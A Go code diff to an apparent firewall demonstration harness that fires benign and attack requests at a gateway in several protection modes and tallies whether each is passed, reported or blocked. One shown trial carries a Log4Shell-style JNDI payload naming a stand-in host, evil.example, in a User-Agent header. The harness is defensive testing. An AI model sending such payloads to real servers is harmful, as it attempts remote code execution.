@@ -100,6 +100,15 @@ var trials = []trial{
 	{name: "a lookup in a header", class: "rce", header: [2]string{"User-Agent", "${jndi:ldap://evil.example/a}"}},
 }
 
+// shown are the modes of the demonstration, each with its route and what becomes of an attack.
+var shown = []struct{ name, route, attack string }{
+	{"off", "/off", "passed"},
+	{"monitoring", "/monitoring", "reported"},
+	{"safe_blocking", "/safe", "reported"},
+	{"safe_blocking, from grey", "/safe-grey", "blocked"},
+	{"block", "/block", "blocked"},
+}
+
 // results are what came of the trials in one mode.
 type results struct{ passed, reported, blocked int }
 
@@ -111,17 +120,17 @@ func attackAll(ctx context.Context, out io.Writer, gateway string) error {
 	fmt.Fprintln(table, "mode\trequests\tpassed\treported\tblocked\t")
 	var wrong []error
 	blocked := map[string]int{}
-	for _, mode := range []string{"off", "monitoring", "block"} {
+	for _, mode := range shown {
 		var good, bad results
 		for _, t := range trials {
-			outcome, err := t.send(ctx, gateway+"/"+mode)
+			outcome, err := t.send(ctx, gateway+mode.route)
 			if err != nil {
 				return err
 			}
 			into, expected := &good, "passed"
 			if t.class != "" {
 				into = &bad
-				expected = map[string]string{"off": "passed", "monitoring": "reported", "block": "blocked"}[mode]
+				expected = mode.attack
 			}
 			switch outcome {
 			case "passed":
@@ -130,13 +139,15 @@ func attackAll(ctx context.Context, out io.Writer, gateway string) error {
 				into.reported++
 			case "blocked":
 				into.blocked++
-				blocked[t.class]++
+				if mode.name == "block" {
+					blocked[t.class]++
+				}
 			}
 			if outcome != expected {
-				wrong = append(wrong, fmt.Errorf("mode %s: %s was %s, not %s", mode, t.name, outcome, expected))
+				wrong = append(wrong, fmt.Errorf("mode %s: %s was %s, not %s", mode.name, t.name, outcome, expected))
 			}
 		}
-		fmt.Fprintf(table, "%s\tgood\t%d\t%d\t%d\t\n\tbad\t%d\t%d\t%d\t\n", mode, good.passed, good.reported, good.blocked, bad.passed, bad.reported, bad.blocked)
+		fmt.Fprintf(table, "%s\tgood\t%d\t%d\t%d\t\n\tbad\t%d\t%d\t%d\t\n", mode.name, good.passed, good.reported, good.blocked, bad.passed, bad.reported, bad.blocked)
 	}
 	if err := table.Flush(); err != nil {
 		return err
